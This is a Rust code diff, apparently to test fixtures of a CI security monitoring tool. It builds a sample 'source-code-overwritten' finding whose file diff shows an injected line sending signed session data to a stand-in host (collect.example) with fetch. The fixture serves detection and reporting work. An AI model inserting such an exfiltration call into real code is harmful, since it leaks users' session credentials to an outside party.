@@ -9,13 +9,13 @@ use std::sync::Arc;
 
 use runward_detect::{Confidence, Severity};
 use runward_event::{
-    ConnectOutcome, EventKind, JobIdentity, Mode, PolicyRule, ProcessId, Protocol, Provider,
-    Reason, Status, Tier, Time,
+    ConnectOutcome, EventKind, FileDiff, JobIdentity, Mode, PolicyRule, ProcessId, Protocol,
+    Provider, Reason, Status, Tier, Time,
 };
 use runward_report::{
-    Ancestor, Blocked, Counts, Dependency, Destination as ReportDestination, Detection as Finding,
-    Ecosystem, Exit, FileChangeKind, FileRow, NetworkRow, ProcessDetail, ProcessRow, Report,
-    Statuses,
+    Ancestor, Blocked, ContentChange, Counts, Dependency, Destination as ReportDestination,
+    Detection as Finding, Ecosystem, Exit, FileChangeKind, FileRow, NetworkRow, ProcessDetail,
+    ProcessRow, Report, Statuses,
 };
 use runward_store::{
     About, Agent, ApiKey, AttachedPolicy, AuditEntry, Day, Deleted, Destination, Detection,
@@ -1476,7 +1476,8 @@ pub(super) fn report(kind: Kind) -> Report {
             "Publish",
         ),
     ];
-    let finding = |name: &str, severity, message: &str, path: Option<&str>| Finding {
+    let finding = |name: &str, severity, message: &str, path: Option<&str>| {
+        Finding {
         detection: name.to_owned(),
         severity,
         confidence: Confidence::High,
@@ -1487,10 +1488,25 @@ pub(super) fn report(kind: Kind) -> Report {
         next: String::new(),
         path: path.map(|path| kind.text(path)),
         destination: None,
-        content: None,
+        content: path.map(|_| ContentChange {
+            hash_before: Some("a".repeat(40)),
+            hash_after: Some("b".repeat(40)),
+            diff: Some(FileDiff {
+                text: format!(
+                    "@@ -7,3 +7,3 @@\n export function open(session) {{\n-  return sign(session);\n+  {}\n }}\n",
+                    kind.text("return fetch('https://collect.example', sign(session));")
+                ),
+                added: 1,
+                removed: 1,
+                cut: false,
+            }),
+            no_diff: None,
+            mount: None,
+        }),
         process: Some(detail(kind, &processes, 5)),
         step: Some(Arc::from(kind.text("Install"))),
         dependency: Some(Arc::new(dependency(kind))),
+    }
     };
     let detections = vec![finding(
         "source-code-overwritten",
